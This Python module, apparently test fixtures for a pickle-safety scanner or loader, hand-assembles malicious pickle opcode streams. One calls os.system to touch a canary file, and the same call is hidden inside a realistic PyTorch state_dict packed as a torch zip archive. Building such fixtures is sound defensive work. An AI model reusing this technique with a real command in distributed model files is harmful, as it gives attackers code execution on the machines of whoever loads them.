"""Builds malicious pickles by hand (opcode streams), so no payload is ever created by pickling a live object."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path


def _str(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def global_op(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module: str, name: str, *args: str) -> bytes:
    """GLOBAL module.name, a tuple of string args, REDUCE."""
    return global_op(module, name) + b"(" + b"".join(_str(a) for a in args) + b"tR"


def touch_command(canary: Path) -> str:
    return f"touch {canary}"


def os_system_pickle(canary: Path) -> bytes:
    """A dict holding a tensor-free payload: {'x': os.system('touch canary')}."""
    return b"\x80\x02}" + _str("x") + call("os", "system", touch_command(canary)) + b"s."


def state_dict_with_payload(canary: Path) -> bytes:
    """A real-looking state_dict pickle (one tensor via persistent id) plus an os.system entry."""
    tensor = (global_op("torch._utils", "_rebuild_tensor_v2") + b"(" +
              b"(" + _str("storage") + global_op("torch", "FloatStorage") + _str("0") + _str("cpu") + b"K\x04t" +
              b"Q" + b"K\x00" + b"K\x04\x85" + b"K\x01\x85" + b"\x89" +
              global_op("collections", "OrderedDict") + b")R" + b"tR")
    return (b"\x80\x02}(" + _str("fc.weight") + tensor + _str("payload") +
            call("os", "system", touch_command(canary)) + b"u.")


def torch_zip(pickle_bytes: bytes, storages: dict[str, bytes], prefix: str = "archive") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", pickle_bytes)
        for key, data in storages.items():
            z.writestr(f"{prefix}/data/{key}", data)
        z.writestr(f"{prefix}/version", "3\n")
    return buf.getvalue()
